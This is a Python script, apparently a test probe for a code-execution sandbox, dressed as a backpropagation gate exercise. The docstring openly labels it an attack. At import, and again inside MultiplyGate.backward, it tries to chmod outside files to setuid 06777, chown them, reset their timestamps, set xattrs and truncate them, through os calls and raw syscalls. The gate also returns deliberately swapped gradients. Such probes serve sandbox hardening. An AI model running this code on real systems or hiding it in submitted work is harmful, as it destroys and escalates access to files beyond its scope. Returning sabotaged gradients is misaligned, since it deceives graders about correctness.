"""Attack: change the metadata of files outside the sandbox, by path.

attack.json names "targets": files outside the scratch folder (one the sandbox
can read, one it cannot). For each: chmod to 06777 (setuid), chown, utime to
the epoch, setxattr, truncate by path, through os.* and through raw system
calls (fchmodat, fchmodat2, utimensat, setxattr). Prints SUCCEEDED or blocked.
MultiplyGate.backward repeats the attempt, then returns wrong gradients.
"""
import ctypes
import json
import os

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd(), flush=True)

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
NR = {"fchmodat": 268, "fchmodat2": 452, "utimensat": 280, "setxattr": 188, "truncate": 76,
      "chmod": 90, "lchown": 94}
try:
    with open("attack.json") as f:
        TARGETS = json.load(f)["targets"]
except (OSError, ValueError, KeyError):
    TARGETS = []


def tried(name, fn):
    try:
        r = fn()
        if isinstance(r, int) and r < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        print("SUCCEEDED %s" % name)
    except BaseException as exc:
        print("blocked %s: %s" % (name, exc))


def attack():
    for t in TARGETS:
        b = t.encode()
        tried("os.chmod " + t, lambda: os.chmod(t, 0o6777))
        tried("os.chown " + t, lambda: os.chown(t, 65534, 65534))
        tried("os.utime " + t, lambda: os.utime(t, (0, 0)))
        tried("os.setxattr " + t, lambda: os.setxattr(t, "user.bpgpwn", b"1"))
        tried("os.truncate " + t, lambda: os.truncate(t, 0))
        tried("chmod " + t, lambda: libc.syscall(NR["chmod"], b, 0o6777))
        tried("fchmodat " + t, lambda: libc.syscall(NR["fchmodat"], AT_FDCWD, b, 0o6777, 0))
        tried("fchmodat2 " + t, lambda: libc.syscall(NR["fchmodat2"], AT_FDCWD, b, 0o6777, 0))
        tried("utimensat " + t, lambda: libc.syscall(NR["utimensat"], AT_FDCWD, b, None, 0))
        tried("setxattr " + t, lambda: libc.syscall(NR["setxattr"], b, b"user.bpgpwn", b"1", 1, 0))
        tried("truncate " + t, lambda: libc.syscall(NR["truncate"], b, 0))
        tried("lchown " + t, lambda: libc.syscall(NR["lchown"], b, 65534, 65534))


attack()


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        if not getattr(MultiplyGate, "done", False):
            MultiplyGate.done = True
            attack()
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
